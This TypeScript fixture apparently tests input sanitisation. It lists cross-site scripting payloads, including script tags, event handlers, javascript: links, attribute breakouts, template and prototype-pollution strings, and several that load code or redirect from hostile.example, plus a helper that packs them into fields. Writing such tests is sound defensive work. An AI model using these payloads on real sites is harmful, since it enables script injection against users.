/**
 * Texts for cross-site scripting: each would call `alert`, set `__hostile`, or fetch from hostile.example, if it were
 * interpreted as markup, a link, a script or a template. Each fits a single-line field of 80 characters.
 */
export const HOSTILE_TEXTS = [
  '<script>alert(1)</script>',
  '<ScRiPt/x>alert(1)</sCrIpT >',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<script src=//hostile.example/x.js></script>',
  '</script><script>__hostile=1</script>',
  // Handlers that need no interaction.
  '<img src=x onerror=alert(1)>',
  '<IMG """><SCRIPT>alert(1)</SCRIPT>">',
  '<svg/onload=alert(1)>',
  '<svg><script>alert&#40;1)</script>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<details open ontoggle=alert(1)>',
  '<input autofocus onfocus=alert(1)>',
  '<body onload=alert(1)>',
  '<video><source onerror=alert(1)>',
  '<marquee onstart=alert(1)>',
  // Frames and navigation.
  '<iframe srcdoc="<script>parent.__hostile=1</script>">',
  '<object data="data:text/html,<script>alert(1)</script>">',
  '<base href=//hostile.example/>',
  '<meta http-equiv=refresh content="0;url=//hostile.example/">',
  // Links.
  '<a href="javascript:alert(1)">x</a>',
  'javascript:alert(1)//',
  'JaVa&Tab;ScRiPt:alert(1)',
  'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==',
  // Breaking out of an attribute, an element, a comment.
  '" onmouseover="alert(1)" x="',
  "' autofocus onfocus='alert(1)' x='",
  '` onerror=alert(1) `',
  '"><svg onload=alert(1)>',
  "'><svg onload=alert(1)>",
  '</title><img src=x onerror=alert(1)>',
  '</textarea><svg onload=alert(1)>',
  '--><svg onload=alert(1)><!--',
  ']]><svg onload=alert(1)>',
  // Breaking out of a string, into a template.
  "'-alert(1)-'",
  '\\");alert(1)//',
  '"},"__proto__":{"hostile":1},"x":{"',
  "{{constructor.constructor('alert(1)')()}}",
  '${alert(1)}',
  '<%= alert(1) %>',
  '#{alert(1)}',
  '__proto__',
  'constructor',
  // Styles.
  '<style>*{background:url(//hostile.example/x)}</style>',
  '<link rel=stylesheet href=//hostile.example/x.css>',
  '<p style="width:expression(alert(1))">',
  // Texts that become markup when they are parsed twice.
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<svg><style><img src=x onerror=alert(1)></style></svg>',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '&#60;img src=x onerror=alert(1)&#62;',
  '%3Cscript%3Ealert(1)%3C/script%3E',
  '\\u003cscript\\u003ealert(1)\\u003c/script\\u003e',
  // Full-width and other look-alike characters.
  '＜script＞alert(1)＜/script＞',
];

/** Reordered by bidirectional control characters: every field refuses it, but older rows may contain it. */
export const REORDERED_TEXT = '<\u202escript>alert(1)</script\u202c>';

/** Further texts for multi-line fields. */
export const HOSTILE_LINES = [...HOSTILE_TEXTS, '<img src=x\nonerror=alert(1)\n>', 'x\nalert(1)\n//'];

/** Concatenates the texts into as few fields of a length as possible. */
export function packTexts(maxLength: number, texts: readonly string[] = HOSTILE_TEXTS): string[] {
  const fields: string[] = [];
  for (const text of texts.toSorted((a, b) => b.length - a.length)) {
    const index = fields.findIndex((field) => field.length + 1 + text.length <= maxLength);
    const field = fields[index];
    if (field !== undefined) fields[index] = `${field} ${text}`;
    else if (text.length <= maxLength) fields.push(text);
  }
  return fields;
}
